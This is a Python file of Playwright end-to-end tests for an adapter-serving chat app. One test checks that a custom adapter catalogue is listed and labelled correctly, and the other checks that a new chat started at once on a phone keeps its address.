def test_another_catalogue_is_served_with_a_profile_per_adapter(tmp_path, browser, tiny_base):
    """`ADAPTERLAB_CATALOG` with an adapter of one's own: the app offers it (a profile made from its
    spec), offers no profile of a shipped adapter it lacks, and answers with the spec's labels."""
    import yaml

    spec = yaml.safe_load((ROOT / "adapters" / "spam" / "adapter.yaml").read_text())
    spec.update(title="Mood check", description="How a message feels.", labels=["positive", "negative", "neutral"],
                decision="argmax")
    spec.pop("metrics"), spec.pop("targets")  # spam's name two-label measures
    (tmp_path / "mine" / "mood").mkdir(parents=True)
    (tmp_path / "mine" / "mood" / "adapter.yaml").write_text(yaml.safe_dump(spec))
    srv = Server(tmp_path, {"ADAPTERLAB_BASE_MODEL": str(tiny_base), "ADAPTERLAB_CATALOG": str(tmp_path / "mine")},
                 name="server-catalogue", own_root=True)
    try:
        srv.wait_healthy()
        page = new_page(browser, srv)
        open_app(page, srv)
        page.click("#chat-profiles")
        items = page.locator('[data-test^="select-item:"]')
        items.first.wait_for()
        assert sorted(items.evaluate_all("els => els.map(e => e.dataset.test)")) == [
            "select-item:Chat", "select-item:Mood check"]  # no Spam check, Medical Q&A, Oncology or Compare
        page.click('[data-test="select-item:Mood check"]')
        page.wait_for_selector("#chat-profiles:has-text('Mood check')")
        # the new profile's session says so in its status panel: a message sent before it (the
        # page still reconnecting, the model loading) once got no answer in CI
        wait_model_ready(page, srv)
        send(page, "What a lovely sunny day")
        answer = answers(page).filter(has_text="probability").first
        answer.wait_for(timeout=ANSWER_TIMEOUT * 1000)
        text = answer.inner_text()
        assert all(label in text for label in ("positive", "negative", "neutral")), text
        assert "spam" not in text.lower()
        page.context.close()
    finally:
        srv.stop()


def test_signed_in_on_a_phone_a_new_chat_started_at_once_is_not_moved_to_the_chat_it_left(login_server, browser):
    """public/adapterlab.js fills in a chat's address 1.5 s after Chainlit has written its thread,
    if the page is still at "/": a new chat started meanwhile (a spam check answers in well under a
    second) is at "/" too, and was moved to /thread/<the chat it left>; a reload opened that chat."""
    context = browser.new_context(**PHONE)
    page = context.new_page()
    page.set_default_timeout(30_000)
    sign_in(page, login_server)
    choose_profile(page, "Spam check")
    send(page, "Warm-up: the model loads")  # (a phone shows no "Model ready")
    answers(page).filter(has_text="probability").first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    page.get_by_role("button", name="New chat", exact=True).first.click()
    page.get_by_role("button", name="Confirm").click()
    page.wait_for_selector("#starters")
    page.evaluate("window.__told = false; window.addEventListener('message', "
                  "(e) => { if (e.data && e.data.adapterlab_thread) window.__told = true; })")
    send(page, "Shall we meet at the station at six?")
    page.wait_for_function("window.__told")
    wait_idle(page)
    page.get_by_role("button", name="New chat", exact=True).first.click()  # at once
    page.get_by_role("button", name="Confirm").click()
    page.wait_for_selector("#starters")
    page.wait_for_timeout(2500)
    path = page.evaluate("window.location.pathname")
    context.close()
    assert path == "/", f"the new chat was moved to {path}"
